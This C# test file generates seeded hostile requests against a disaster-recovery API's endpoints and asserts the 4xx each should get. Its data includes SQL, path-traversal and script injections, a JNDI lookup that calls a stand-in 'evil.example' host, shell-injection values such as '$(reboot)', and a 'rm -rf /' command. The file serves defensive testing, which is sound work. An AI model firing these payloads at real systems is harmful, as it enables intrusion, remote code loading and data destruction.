using System.Text;

namespace Draas.Tests.Security;

/// <summary>One hostile request and the 4xx it must get. <see cref="Body"/> is raw text or bytes; a null
/// <see cref="ContentType"/> sends none; a null <see cref="Token"/> sends no X-Auth-Token.</summary>
public sealed record HostileRequest(string Endpoint, string Name, string Method, string Path, object? Body, int Expected,
    string? ContentType = "application/json", string? Token = LabWithHistory.Admin);

/// <summary>What the requests aim at: tenant A's real resources.</summary>
public sealed record HostileTargets(string SiteA, string SiteB, string Array, string Protection, string Plan, string Run, int Manifest, string Volume);

/// <summary>
/// Generates malformed and malicious requests over every endpoint and verb of the API, deterministically
/// from a seed: the seed picks which injection strings and unicode oddities each endpoint gets and the
/// order the requests are sent in. Every generic attack on a body starts from a body that would be
/// accepted, so only the attack itself can be what refuses it.
/// </summary>
public static class HostileRequests
{
    /// <summary>SQL, path traversal, script, template and shell injections, as JSON string literals.</summary>
    private static readonly string[] Injections =
    [
        "\"' OR '1'='1\"", "\"x'; DROP TABLE runs; --\"", "\"../../etc/passwd\"", "\"<script>alert(1)</script>\"",
        "\"${jndi:ldap://evil.example/a}\"", "\"{{7*7}}\"", "\"$(reboot)\"", "\"`id`\"", "\"1; SELECT pg_sleep(30)\"",
        "\"%s%s%s%n\"", "\"\\\\\\\\evil\\\\share\"", "\"admin\\\" OR \\\"\\\"=\\\"\"",
    ];

    /// <summary>Unicode oddities, as JSON string literals: direction overrides, invisible characters, a lone
    /// surrogate, look-alikes, combining marks, NUL, separators, a trailing newline, too long.</summary>
    private static readonly string[] Oddities =
    [
        "\"\\u202Eevil\"", "\"zero\\u200Bwidth\"", "\"\\uD800\"", "\"\\uFEFFbom\"", "\"\\uFF46\\uFF55\\uFF4C\\uFF4C\"",
        "\"e\\u0301\"", "\"\\uD83D\\uDE08\"", "\"nul\\u0000\"", "\"line\\u2028sep\"", "\"trailing-newline\\n\"",
        "\"" + new string('a', 65) + "\"", "\"\\u00A0nbsp\"",
    ];

    /// <summary>Ids that are not ids, URL-encoded for a path segment.</summary>
    private static readonly string[] BadIds =
    [
        "1%27%20OR%20%271%27=%271", "..%2F..%2Fetc%2Fpasswd", "%E2%80%AEevil", "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff", "%3Cscript%3E", new string('9', 2000), "-1", "null",
    ];

    /// <summary>A body-taking endpoint: a body it would accept, and how to poison or mistype it.</summary>
    private sealed record Writable(string Endpoint, string Method, string Path, string Valid, Func<string, string> Poison, string Mistyped, int NullWrapper = 400);

    public static IReadOnlyList<HostileRequest> Generate(int seed, HostileTargets t, int maxBodyBytes)
    {
        var random = new Random(seed);
        var all = new List<HostileRequest>();
        all.AddRange(HandWrittenSites(t));
        foreach (var w in Writables(t)) all.AddRange(BodyAttacks(w, random, maxBodyBytes));
        all.AddRange(BadQueries(t, random));
        all.AddRange(BadPaths(t, random));
        all.AddRange(Runs(t));
        all.AddRange(WrongCallers(t));
        all.AddRange(WrongMethods(t));
        all.AddRange(InputRuleBreakers(t));
        // A seeded order: no attack relies on running right after the fixture was built.
        return [.. all.OrderBy(_ => random.Next())];
    }

    private static IEnumerable<Writable> Writables(HostileTargets t)
    {
        string Obj(string wrapper, string fields) => $"{{\"{wrapper}\":{{{fields}}}}}";
        string Action(string verb) => $"{{\"{verb}\":{{}}}}";
        yield return new("POST /v1/sites", "POST", "/v1/sites",
            Obj("site", "\"name\":\"hostile-site\",\"auth_url\":\"https://k.example/v3\",\"username\":\"u\",\"project_name\":\"p\",\"password\":\"pw\""),
            s => Obj("site", $"\"name\":{s},\"auth_url\":\"https://k.example/v3\",\"username\":\"u\",\"project_name\":\"p\",\"password\":\"pw\""),
            Obj("site", "\"name\":\"hostile-site\",\"auth_url\":\"https://k.example/v3\",\"username\":\"u\",\"project_name\":\"p\",\"password\":\"pw\",\"verify_tls\":\"yes\""));
        yield return new("PUT /v1/sites/{id}", "PUT", $"/v1/sites/{t.SiteA}",
            Obj("site", "\"description\":\"hostile\""), s => Obj("site", $"\"name\":{s}"), Obj("site", "\"description\":[\"a\"]"));
        yield return new("POST /v1/sites/{id}/action", "POST", $"/v1/sites/{t.SiteA}/action",
            Action("check"), s => $"{{{s}:{{}}}}", "{\"check\":[]}");
        yield return new("POST /v1/arrays", "POST", "/v1/arrays",
            Obj("array", $"\"name\":\"hostile-array\",\"site_id\":\"{t.SiteA}\",\"plugin\":\"pure\",\"endpoint\":\"https://fa.example\",\"api_token\":\"t\",\"cinder_backend\":\"h@b#p\""),
            s => Obj("array", $"\"name\":{s},\"site_id\":\"{t.SiteA}\",\"plugin\":\"pure\",\"endpoint\":\"https://fa.example\",\"api_token\":\"t\",\"cinder_backend\":\"h@b#p\""),
            Obj("array", $"\"name\":\"hostile-array\",\"site_id\":\"{t.SiteA}\",\"plugin\":\"pure\",\"endpoint\":\"https://fa.example\",\"api_token\":\"t\",\"cinder_backend\":\"h@b#p\",\"volume_types\":\"gold\""));
        yield return new("PUT /v1/arrays/{id}", "PUT", $"/v1/arrays/{t.Array}",
            Obj("array", "\"volume_types\":[]"), s => Obj("array", $"\"name\":{s}"), Obj("array", "\"verify_tls\":1"));
        yield return new("POST /v1/arrays/{id}/action", "POST", $"/v1/arrays/{t.Array}/action",
            Action("probe"), s => $"{{{s}:{{}}}}", "{\"probe\":\"now\"}");
        yield return new("POST /v1/protections", "POST", "/v1/protections",
            Obj("protection", $"\"name\":\"hostile-protection\",\"primary_site_id\":\"{t.SiteA}\",\"primary_project_id\":\"c0ffee\",\"recovery_site_id\":\"{t.SiteB}\""),
            s => Obj("protection", $"\"name\":{s},\"primary_site_id\":\"{t.SiteA}\",\"primary_project_id\":\"c0ffee\",\"recovery_site_id\":\"{t.SiteB}\""),
            Obj("protection", $"\"name\":\"hostile-protection\",\"primary_site_id\":\"{t.SiteA}\",\"primary_project_id\":\"c0ffee\",\"recovery_site_id\":\"{t.SiteB}\",\"rpo_target_seconds\":\"fast\""));
        yield return new("PUT /v1/protections/{id}", "PUT", $"/v1/protections/{t.Protection}",
            Obj("protection", "\"rpo_target_seconds\":600"), s => Obj("protection", $"\"name\":{s}"), Obj("protection", "\"contacts\":\"oncall@shop.example\""));
        yield return new("POST /v1/project-mappings", "POST", "/v1/project-mappings",
            Obj("project_mapping", $"\"primary_site_id\":\"{t.SiteA}\",\"primary_project_id\":\"c0ffee\",\"recovery_site_id\":\"{t.SiteB}\",\"recovery_project_id\":\"c0ffee-dr\""),
            s => Obj("project_mapping", $"\"primary_site_id\":\"{t.SiteA}\",\"primary_project_id\":{s},\"recovery_site_id\":\"{t.SiteB}\",\"recovery_project_id\":\"c0ffee-dr\""),
            Obj("project_mapping", $"\"primary_site_id\":\"{t.SiteA}\",\"primary_project_id\":[\"c0ffee\"],\"recovery_site_id\":\"{t.SiteB}\",\"recovery_project_id\":\"c0ffee-dr\""));
        yield return new("POST /v1/plans", "POST", "/v1/plans",
            Obj("plan", $"\"protection_id\":\"{t.Protection}\",\"name\":\"hostile-plan\",\"resources\":[{{\"kind\":\"volume\",\"id\":\"{t.Volume}\"}}]"),
            s => Obj("plan", $"\"protection_id\":\"{t.Protection}\",\"name\":{s},\"resources\":[{{\"kind\":\"volume\",\"id\":\"{t.Volume}\"}}]"),
            Obj("plan", $"\"protection_id\":\"{t.Protection}\",\"name\":\"hostile-plan\",\"resources\":{{\"kind\":\"volume\"}}"));
        yield return new("PUT /v1/plans/{id}", "PUT", $"/v1/plans/{t.Plan}",
            Obj("plan", "\"description\":\"hostile\""), s => Obj("plan", $"\"name\":{s}"), Obj("plan", "\"replication\":{\"interval_seconds\":\"60s\"}"));
        yield return new("POST /v1/plans/{id}/action", "POST", $"/v1/plans/{t.Plan}/action",
            Action("capture"), s => $"{{{s}:{{}}}}", "{\"capture\":1}");
        yield return new("POST /v1/runs", "POST", "/v1/runs",
            Obj("run", $"\"plan_id\":\"{t.Plan}\",\"kind\":\"drill\""), s => Obj("run", $"\"plan_id\":\"{t.Plan}\",\"kind\":{s}"),
            Obj("run", $"\"plan_id\":\"{t.Plan}\",\"kind\":\"drill\",\"dry_run\":\"true\""));
        // {"cancel": null} is still a cancel: of a run that ended, which is a 409.
        yield return new("POST /v1/runs/{id}/action", "POST", $"/v1/runs/{t.Run}/action",
            Action("cancel"), s => $"{{{s}:{{}}}}", "{\"cancel\":{\"force\":true},\"now\":{}}", NullWrapper: 409);
    }

    private static IEnumerable<HostileRequest> BodyAttacks(Writable w, Random random, int maxBodyBytes)
    {
        HostileRequest Case(string name, object? body, int expected, string? contentType = "application/json") =>
            new(w.Endpoint, name, w.Method, w.Path, body, expected, contentType);
        var wrapper = w.Valid[2..w.Valid.IndexOf('"', 2)];
        var inner = w.Valid[(w.Valid.IndexOf(':') + 1)..^1];
        yield return Case("broken JSON", w.Valid[..(w.Valid.Length / 2)], 400);
        yield return Case("a JSON array", $"[{w.Valid}]", 400);
        yield return Case("a JSON string", "\"hello\"", 400);
        yield return Case("a JSON null", "null", 400);
        yield return Case("an empty body", "", 400);
        yield return Case("no content type", w.Valid, 415, contentType: null);
        yield return Case("text/plain", w.Valid, 415, "text/plain");
        yield return Case("form data", "name=x&password=y", 415, "application/x-www-form-urlencoded");
        yield return Case("XML", "<site><name>x</name></site>", 415, "application/xml");
        yield return Case("a JSON look-alike media type", w.Valid, 415, "application/json-patch+json");
        yield return Case("a valid body padded past the size limit", w.Valid + new string(' ', maxBodyBytes + 4096), 413);
        yield return Case("5000 levels of nesting", $"{{\"{wrapper}\":{new string('[', 5000)}{new string(']', 5000)}}}", 400);
        yield return Case("an unknown top-level field", w.Valid[..^1] + ",\"is_admin\":true}", 400);
        yield return Case("the wrapper twice", $"{{\"{wrapper}\":{inner},\"{wrapper}\":{inner}}}", 400);
        yield return Case("invalid UTF-8", Encoding.UTF8.GetBytes(w.Valid[..^2]).Concat(new byte[] { 0xC3, 0x28, 0xFF, (byte)'}', (byte)'}' }).ToArray(), 400);
        yield return Case("UTF-16 with a JSON content type", Encoding.Unicode.GetBytes(w.Valid), 400);
        yield return Case("the wrapper null", $"{{\"{wrapper}\":null}}", w.NullWrapper);
        yield return Case("a field of the wrong type", w.Mistyped, 400);
        // Two injections and two oddities per endpoint, chosen by the seed.
        foreach (var s in Injections.OrderBy(_ => random.Next()).Take(2)) yield return Case($"injection {s}", w.Poison(s), 400);
        foreach (var s in Oddities.OrderBy(_ => random.Next()).Take(2)) yield return Case($"unicode {s}", w.Poison(s), 400);
        yield return Case("a name with a trailing newline", w.Poison("\"trailing-newline\\n\""), 400);
    }

    /// <summary>Limits, markers and filters that are not what they claim, on every collection.</summary>
    private static IEnumerable<HostileRequest> BadQueries(HostileTargets t, Random random)
    {
        foreach (var collection in new[] { "sites", "arrays", "protections", "project-mappings", "plans", "runs", "events" })
        {
            var endpoint = $"GET /v1/{collection}";
            HostileRequest Case(string name, string query, int expected = 400) => new(endpoint, name, "GET", $"/v1/{collection}?{query}", null, expected);
            yield return Case("negative limit", "limit=-5");
            yield return Case("zero limit", "limit=0");
            yield return Case("limit that is not a number", "limit=ten");
            yield return Case("limit beyond any integer", "limit=99999999999999999999999");
            yield return Case("limit in exponent notation", "limit=1e3");
            yield return Case("limit given twice", "limit=1&limit=2");
            yield return Case("SQL in the marker", "marker=%27%3BDROP%20TABLE%20" + collection);
            if (collection != "events") yield return Case("a marker that does not exist", "marker=" + Guid.NewGuid());
            else yield return Case("a marker that is not an event id", "marker=" + BadIds[random.Next(3)]);
        }
        HostileRequest Filter(string collection, string query) => new($"GET /v1/{collection}", $"bad filter {query}", "GET", $"/v1/{collection}?{query}", null, 400);
        yield return Filter("runs", "kind=explode");
        yield return Filter("runs", "kind=DRILL%27--");
        yield return Filter("runs", "state=exploded");
        yield return Filter("runs", "plan_id=1%20OR%201=1");
        yield return Filter("runs", "protection_id=%00");
        yield return Filter("plans", "protection_id=%27%20OR%20%27%27=%27");
        yield return Filter("arrays", "site_id=..%2Fsites");
        yield return Filter("events", "since=the-dawn-of-time");
        yield return Filter("events", "since=%27%3B%20DELETE%20FROM%20audit_events%3B--");
        var manifests = $"/v1/plans/{t.Plan}/manifests/{t.Manifest}";
        yield return new("GET /v1/plans/{id}/manifests/{n}", "diff with a manifest that is not a number", "GET", manifests + "?diff=%27%20OR%201=1", null, 400);
        yield return new("GET /v1/plans/{id}/manifests/{n}", "diff with a manifest that does not exist", "GET", manifests + "?diff=99999", null, 400);
    }

    /// <summary>Ids that are not ids, or ids of nothing, in every path that takes one.</summary>
    private static IEnumerable<HostileRequest> BadPaths(HostileTargets t, Random random)
    {
        var templates = new (string Endpoint, string Method, Func<string, string> Path, string? Body)[]
        {
            ("GET /v1/sites/{id}", "GET", id => $"/v1/sites/{id}", null),
            ("DELETE /v1/sites/{id}", "DELETE", id => $"/v1/sites/{id}", null),
            ("PUT /v1/sites/{id}", "PUT", id => $"/v1/sites/{id}", "{\"site\":{\"description\":\"x\"}}"),
            ("POST /v1/sites/{id}/action", "POST", id => $"/v1/sites/{id}/action", "{\"check\":{}}"),
            ("GET /v1/arrays/{id}", "GET", id => $"/v1/arrays/{id}", null),
            ("DELETE /v1/arrays/{id}", "DELETE", id => $"/v1/arrays/{id}", null),
            ("PUT /v1/arrays/{id}", "PUT", id => $"/v1/arrays/{id}", "{\"array\":{\"volume_types\":[]}}"),
            ("POST /v1/arrays/{id}/action", "POST", id => $"/v1/arrays/{id}/action", "{\"probe\":{}}"),
            ("GET /v1/protections/{id}", "GET", id => $"/v1/protections/{id}", null),
            ("PUT /v1/protections/{id}", "PUT", id => $"/v1/protections/{id}", "{\"protection\":{\"rpo_target_seconds\":600}}"),
            ("DELETE /v1/protections/{id}", "DELETE", id => $"/v1/protections/{id}", null),
            ("GET /v1/protections/{id}/runbook", "GET", id => $"/v1/protections/{id}/runbook", null),
            ("GET /v1/project-mappings/{id}", "GET", id => $"/v1/project-mappings/{id}", null),
            ("DELETE /v1/project-mappings/{id}", "DELETE", id => $"/v1/project-mappings/{id}", null),
            ("GET /v1/plans/{id}", "GET", id => $"/v1/plans/{id}", null),
            ("PUT /v1/plans/{id}", "PUT", id => $"/v1/plans/{id}", "{\"plan\":{\"description\":\"x\"}}"),
            ("DELETE /v1/plans/{id}", "DELETE", id => $"/v1/plans/{id}", null),
            ("POST /v1/plans/{id}/action", "POST", id => $"/v1/plans/{id}/action", "{\"capture\":{}}"),
            ("GET /v1/plans/{id}/status", "GET", id => $"/v1/plans/{id}/status", null),
            ("GET /v1/plans/{id}/manifests", "GET", id => $"/v1/plans/{id}/manifests", null),
            ("GET /v1/plans/{id}/manifests/{n}", "GET", id => $"/v1/plans/{id}/manifests/1", null),
            ("GET /v1/runs/{id}", "GET", id => $"/v1/runs/{id}", null),
            ("GET /v1/runs/{id}/report", "GET", id => $"/v1/runs/{id}/report", null),
            ("POST /v1/runs/{id}/action", "POST", id => $"/v1/runs/{id}/action", "{\"cancel\":{}}"),
        };
        foreach (var (endpoint, method, path, body) in templates)
        {
            foreach (var id in BadIds.OrderBy(_ => random.Next()).Take(3))
                yield return new(endpoint, $"id {(id.Length > 40 ? id[..12] + "... (" + id.Length + " chars)" : id)}", method, path(id), body, 404);
        }
        foreach (var n in new[] { "abc", "-1", "99999999999", "1%20OR%201=1", "0x1" })
            yield return new("GET /v1/plans/{id}/manifests/{n}", $"manifest {n}", "GET", $"/v1/plans/{t.Plan}/manifests/{n}", null, 404);
        yield return new("GET /v1/nothing", "an unknown resource", "GET", "/v1/nothing", null, 404);
        yield return new("GET /v2/sites", "an unknown API version", "GET", "/v2/sites", null, 404);
        yield return new("GET /v1/sites/{id}/x", "a path below a resource", "GET", $"/v1/sites/{t.SiteA}/x/y", null, 404);
    }

    /// <summary>Recovery runs the service must refuse before anything is stored.</summary>
    private static IEnumerable<HostileRequest> Runs(HostileTargets t)
    {
        HostileRequest Run(string name, string fields, int expected, string? token = LabWithHistory.Admin) =>
            new("POST /v1/runs", name, "POST", "/v1/runs", $"{{\"run\":{{{fields}}}}}", expected, Token: token);
        var plan = $"\"plan_id\":\"{t.Plan}\"";
        yield return Run("an unknown kind", $"{plan},\"kind\":\"explode\"", 400);
        yield return Run("a kind as a number", $"{plan},\"kind\":1", 400);
        yield return Run("a kind as a numeric string", $"{plan},\"kind\":\"0\"", 400);
        yield return Run("a kind that is null", $"{plan},\"kind\":null", 400);
        yield return Run("no kind", plan, 400);
        yield return Run("no plan", "\"kind\":\"drill\"", 400);
        yield return Run("a plan id that is not an id", "\"plan_id\":\"plan-a\",\"kind\":\"drill\"", 400);
        yield return Run("a plan id as a number", "\"plan_id\":42,\"kind\":\"drill\"", 400);
        yield return Run("a plan that does not exist", $"\"plan_id\":\"{Guid.Empty}\",\"kind\":\"drill\"", 404);
        yield return Run("a protection with no plan of ours", $"\"protection_id\":\"{Guid.NewGuid()}\",\"kind\":\"drill\"", 400);
        yield return Run("a plan of another protection", $"{plan},\"protection_id\":\"{Guid.NewGuid()}\",\"kind\":\"drill\"", 400);
        yield return Run("another tenant's plan (member of B)", $"{plan},\"kind\":\"drill\"", 404, LabWithHistory.MemberB);
        yield return Run("another tenant's plan as a dry run (member of B)", $"{plan},\"kind\":\"drill\",\"dry_run\":true", 404, LabWithHistory.MemberB);
        yield return Run("a failover by a project member", $"{plan},\"kind\":\"failover\"", 403, LabWithHistory.MemberA);
        yield return Run("a drill by a reader", $"{plan},\"kind\":\"drill\"", 403, LabWithHistory.ReaderA);
        foreach (var (option, value) in new[]
        {
            ("max_parallel", "-1"), ("max_parallel", "0"), ("max_parallel", "65"), ("max_parallel", "2147483648"), ("max_parallel", "1e308"),
            ("max_parallel", "\"3\""), ("max_parallel", "2.5"), ("max_parallel", "true"), ("max_parallel", "[3]"),
            ("recovery_timeout", "59"), ("recovery_timeout", "86401"), ("validation_retries", "0"), ("replicate_timeout", "-900"),
            ("stop_primary", "\"yes\""), ("keep_fixed_ips", "1"), ("ignore_primary_failures", "{}"),
            ("network_mapping", "[\"private\"]"), ("network_mapping", "{\"private\":42}"), ("network_mapping", "{\"private\":{\"id\":\"x\"}}"),
            ("network_mapping", "{\"private\":null}"), ("network_mapping", "\"private=private\""),
            ("reboot_everything", "true"), ("__proto__", "{\"admin\":true}"),
        })
        {
            yield return Run($"option {option}={value}", $"{plan},\"kind\":\"drill\",\"options\":{{\"{option}\":{value}}}", 400);
        }
        yield return Run("options as a list", $"{plan},\"kind\":\"drill\",\"options\":[]", 400);
        yield return Run("an empty recovery point", $"{plan},\"kind\":\"drill\",\"recovery_point\":\"\"", 400);
        yield return Run("a recovery point of 129 characters", $"{plan},\"kind\":\"drill\",\"recovery_point\":\"{new string('p', 129)}\"", 400);
        yield return Run("a planned migration from an old point", $"{plan},\"kind\":\"planned_migration\",\"recovery_point\":\"2020-01-01T00:00:00Z\"", 400);
        yield return Run("dry_run as a string", $"{plan},\"kind\":\"drill\",\"dry_run\":\"yes\"", 400);
        yield return Run("an unknown run field", $"{plan},\"kind\":\"drill\",\"state\":\"succeeded\"", 400);
        yield return Run("a run id chosen by the caller", $"{plan},\"kind\":\"drill\",\"id\":\"{Guid.NewGuid()}\"", 400);
        HostileRequest Cancel(string name, string body, int expected, string? token = LabWithHistory.Admin) =>
            new("POST /v1/runs/{id}/action", name, "POST", $"/v1/runs/{t.Run}/action", body, expected, Token: token);
        yield return Cancel("cancel a run that ended", "{\"cancel\":{}}", 409);
        yield return Cancel("an unknown action", "{\"restart\":{}}", 400);
        yield return Cancel("two actions", "{\"cancel\":{},\"delete\":{}}", 400);
        yield return Cancel("cancel another tenant's run (member of B)", "{\"cancel\":{}}", 404, LabWithHistory.MemberB);
        yield return Cancel("cancel as a reader", "{\"cancel\":{}}", 403, LabWithHistory.ReaderA);
    }

    /// <summary>Callers who may not: no token, a forged one, another tenant, a reader writing, a member at the cloud's resources.</summary>
    private static IEnumerable<HostileRequest> WrongCallers(HostileTargets t)
    {
        var calls = new (string Endpoint, string Method, string Path, string? Body)[]
        {
            ("GET /v1/sites", "GET", "/v1/sites", null),
            ("POST /v1/sites", "POST", "/v1/sites", "{\"site\":{\"name\":\"intruder\",\"auth_url\":\"https://k.example/v3\",\"username\":\"u\",\"project_name\":\"p\",\"password\":\"pw\"}}"),
            ("DELETE /v1/sites/{id}", "DELETE", $"/v1/sites/{t.SiteA}", null),
            ("GET /v1/arrays/{id}", "GET", $"/v1/arrays/{t.Array}", null),
            ("PUT /v1/arrays/{id}", "PUT", $"/v1/arrays/{t.Array}", "{\"array\":{\"api_token\":\"stolen\"}}"),
            ("GET /v1/protections/{id}", "GET", $"/v1/protections/{t.Protection}", null),
            ("DELETE /v1/plans/{id}", "DELETE", $"/v1/plans/{t.Plan}", null),
            ("GET /v1/plans/{id}/manifests/{n}", "GET", $"/v1/plans/{t.Plan}/manifests/{t.Manifest}", null),
            ("GET /v1/runs/{id}/report", "GET", $"/v1/runs/{t.Run}/report", null),
            ("GET /v1/events", "GET", "/v1/events", null),
            ("GET /v1/notifications", "GET", "/v1/notifications", null),
            ("GET /v1/protections/{id}/runbook", "GET", $"/v1/protections/{t.Protection}/runbook", null),
            ("GET /v1/plans/{id}/status", "GET", $"/v1/plans/{t.Plan}/status", null),
            ("GET /v1/openapi.json", "GET", "/v1/openapi.json", null),
        };
        foreach (var (endpoint, method, path, body) in calls)
        {
            yield return new(endpoint, "no token", method, path, body, 401, Token: null);
            yield return new(endpoint, "a forged token", method, path, body, 401, Token: "gAAAAA' OR '1'='1");
        }
        yield return new("GET /v1/sites", "a token of 16 KB", "GET", "/v1/sites", null, 401, Token: "gAAAAA" + new string('A', 16 * 1024));
        yield return new("GET /v1/sites", "a member at the cloud's sites", "GET", "/v1/sites", null, 403, Token: LabWithHistory.MemberA);
        yield return new("GET /v1/project-mappings", "a member listing which projects belong to whom", "GET", "/v1/project-mappings", null, 403, Token: LabWithHistory.MemberA);
        yield return new("POST /v1/project-mappings", "a member mapping another tenant's project to their own", "POST", "/v1/project-mappings",
            $"{{\"project_mapping\":{{\"primary_site_id\":\"{t.SiteA}\",\"primary_project_id\":\"c0ffee\",\"recovery_site_id\":\"{t.SiteB}\",\"recovery_project_id\":\"c0ffee-dr\"}}}}", 403, Token: LabWithHistory.MemberA);
        yield return new("PUT /v1/protections/{id}", "a member naming a recovery project nobody mapped to them", "PUT", $"/v1/protections/{t.Protection}",
            "{\"protection\":{\"recovery_project_id\":\"c0ffee-dr\"}}", 403, Token: LabWithHistory.MemberA);
        yield return new("POST /v1/arrays/{id}/action", "a member probing an array", "POST", $"/v1/arrays/{t.Array}/action", "{\"probe\":{}}", 403, Token: LabWithHistory.MemberA);
        yield return new("PUT /v1/protections/{id}", "a reader changing the RPO", "PUT", $"/v1/protections/{t.Protection}", "{\"protection\":{\"rpo_target_seconds\":86400}}", 403, Token: LabWithHistory.ReaderA);
        yield return new("DELETE /v1/plans/{id}", "a reader deleting the plan", "DELETE", $"/v1/plans/{t.Plan}", null, 403, Token: LabWithHistory.ReaderA);
        yield return new("PUT /v1/plans/{id}", "another tenant renaming the plan", "PUT", $"/v1/plans/{t.Plan}", "{\"plan\":{\"name\":\"pwned\"}}", 404, Token: LabWithHistory.MemberB);
        yield return new("POST /v1/plans", "another tenant adding a plan to A's protection", "POST", "/v1/plans",
            $"{{\"plan\":{{\"protection_id\":\"{t.Protection}\",\"name\":\"sneaky\",\"resources\":[{{\"kind\":\"volume\",\"id\":\"{t.Volume}\"}}]}}}}", 400, Token: LabWithHistory.MemberB);
        yield return new("PUT /v1/sites/{id}", "a newline ending the auth URL", "PUT", $"/v1/sites/{t.SiteA}", "{\"site\":{\"auth_url\":\"https://k.example/v3\\n\"}}", 400);
        yield return new("PUT /v1/sites/{id}", "a tab inside the probe URL", "PUT", $"/v1/sites/{t.SiteA}", "{\"site\":{\"probe_url\":\"https://probe\\t.example\"}}", 400);
        yield return new("PUT /v1/arrays/{id}", "a newline ending the array endpoint", "PUT", $"/v1/arrays/{t.Array}", "{\"array\":{\"endpoint\":\"https://fa.example\\n\"}}", 400);
        yield return new("PUT /v1/arrays/{id}", "a newline ending the Cinder backend", "PUT", $"/v1/arrays/{t.Array}", "{\"array\":{\"cinder_backend\":\"h@b#p\\n\"}}", 400);
        yield return new("PUT /v1/protections/{id}", "a newline ending the webhook URL", "PUT", $"/v1/protections/{t.Protection}", "{\"protection\":{\"webhook_url\":\"https://hook.example/x\\n\"}}", 400);
        yield return new("PUT /v1/protections/{id}", "a webhook secret too short to be one", "PUT", $"/v1/protections/{t.Protection}", "{\"protection\":{\"webhook_secret\":\"abc\"}}", 400);
        yield return new("PUT /v1/protections/{id}", "a NUL in the webhook secret", "PUT", $"/v1/protections/{t.Protection}", "{\"protection\":{\"webhook_secret\":\"0123456789abcdef\\u0000\"}}", 400);
        yield return new("PUT /v1/protections/{id}", "a newline ending a contact", "PUT", $"/v1/protections/{t.Protection}", "{\"protection\":{\"contacts\":[\"oncall@shop.example\\n\"]}}", 400);
        yield return new("PUT /v1/protections/{id}", "a newline ending the recovery project id", "PUT", $"/v1/protections/{t.Protection}", "{\"protection\":{\"recovery_project_id\":\"abc\\n\"}}", 400);
        foreach (var (what, check) in new[]
        {
            ("a health check on no server", "{\"type\":\"tcp\",\"port\":22}"),
            ("a health check of an unknown type", "{\"server\":\"web\",\"type\":\"icmp\"}"),
            ("a health check on port 0", "{\"server\":\"web\",\"port\":0}"),
            ("a health check on port 70000", "{\"server\":\"web\",\"port\":70000}"),
            ("a health check with an unknown field", "{\"server\":\"web\",\"command\":\"rm -rf /\"}"),
            ("a health check path without a slash", "{\"server\":\"web\",\"type\":\"http\",\"path\":\"http://evil.example\"}"),
            ("a health check expecting status 42", "{\"server\":\"web\",\"type\":\"http\",\"expect_status\":42}"),
            ("a health check naming its server twice", "{\"server\":\"web\",\"server_id\":\"x\"}"),
        })
        {
            yield return new("PUT /v1/plans/{id}", what, "PUT", $"/v1/plans/{t.Plan}", $"{{\"plan\":{{\"health_checks\":[{check}]}}}}", 400);
        }
        yield return new("PUT /v1/plans/{id}", "a hook no run would call", "PUT", $"/v1/plans/{t.Plan}", "{\"plan\":{\"hooks\":[{\"url\":\"https://hook.example\"}]}}", 400);
        yield return new("POST /v1/protections", "another tenant enrolling A's project", "POST", "/v1/protections",
            $"{{\"protection\":{{\"name\":\"takeover\",\"primary_site_id\":\"{t.SiteA}\",\"recovery_site_id\":\"{t.SiteB}\",\"primary_project_id\":\"x{t.Plan[..8]}\"}}}}", 403, Token: LabWithHistory.MemberB);
    }

    /// <summary>Verbs no route takes.</summary>
    private static IEnumerable<HostileRequest> WrongMethods(HostileTargets t)
    {
        var cases = new (string Method, string Path)[]
        {
            ("PATCH", "/v1/sites"), ("PUT", "/v1/sites"), ("DELETE", "/v1/sites"), ("PATCH", $"/v1/sites/{t.SiteA}"), ("GET", $"/v1/sites/{t.SiteA}/action"),
            ("PATCH", $"/v1/arrays/{t.Array}"), ("DELETE", "/v1/arrays"), ("PUT", $"/v1/arrays/{t.Array}/action"),
            ("PATCH", $"/v1/protections/{t.Protection}"), ("POST", $"/v1/protections/{t.Protection}"), ("DELETE", $"/v1/protections/{t.Protection}/runbook"),
            ("PATCH", $"/v1/plans/{t.Plan}"), ("POST", $"/v1/plans/{t.Plan}"), ("DELETE", $"/v1/plans/{t.Plan}/manifests"), ("POST", $"/v1/plans/{t.Plan}/status"),
            ("DELETE", $"/v1/plans/{t.Plan}/manifests/{t.Manifest}"), ("GET", $"/v1/plans/{t.Plan}/action"),
            ("DELETE", $"/v1/runs/{t.Run}"), ("PUT", $"/v1/runs/{t.Run}"), ("PATCH", "/v1/runs"), ("DELETE", $"/v1/runs/{t.Run}/report"), ("GET", $"/v1/runs/{t.Run}/action"),
            ("POST", "/v1/events"), ("DELETE", "/v1/events"), ("POST", "/v1/notifications"), ("DELETE", "/v1/notifications"), ("HEAD", "/v1/sites"), ("TRACE", "/v1/plans"), ("OPTIONS", "/v1/runs"),
            ("POST", "/healthz"), ("DELETE", "/"),
        };
        foreach (var (method, path) in cases)
        {
            yield return new(Label(method, path), "a method no route takes", method, path, method is "GET" or "HEAD" or "TRACE" or "OPTIONS" or "DELETE" ? null : "{}", 405);
        }
    }

    /// <summary>
    /// One case or more per class of docs/input-rules.md, each from a request that would otherwise pass: NUL and
    /// control characters in filters, keys and strings of every kind; tokens that are not ASCII; recovery points
    /// that are none, dry runs too; an update that would leave what a create refuses; blank and padded names;
    /// enums in another case or with spaces; /metrics without a token or with the wrong verb.
    /// </summary>
    private static IEnumerable<HostileRequest> InputRuleBreakers(HostileTargets t)
    {
        HostileRequest Get(string name, string path, int expected = 400, string? token = LabWithHistory.Admin) =>
            new(Label("GET", path), name, "GET", path, null, expected, Token: token);
        HostileRequest Send(string method, string name, string path, string body, int expected = 400, string? token = LabWithHistory.Admin) =>
            new(Label(method, path), name, method, path, body, expected, Token: token);

        // NUL and control characters in filters (decoded from the query string), names and values alike.
        yield return Get("a NUL in the name filter", "/v1/sites?name=site-a%00");
        yield return Get("a NUL in the project filter", "/v1/protections?project_id=%00");
        yield return Get("a NUL in the resource type filter", "/v1/events?resource_type=plan%00");
        yield return Get("a NUL in the resource id filter", "/v1/events?resource_id=%00x");
        yield return Get("a NUL in the action filter", "/v1/events?action=run.create%00");
        yield return Get("a bell in the action filter", "/v1/events?action=run%07create");
        yield return Get("a NUL in the notification event filter", "/v1/notifications?event=run.failed%00");
        yield return Get("a delivery state that is a number", "/v1/notifications?state=1");
        yield return Get("a channel nobody delivers on", "/v1/notifications?channel=pager");
        yield return Get("a delivery state in capitals", "/v1/notifications?state=DELIVERED");
        yield return Get("a marker that is no notification id", "/v1/notifications?marker=abc");
        yield return Get("a lag history of a year", $"/v1/plans/{t.Plan}/status?history=8760");
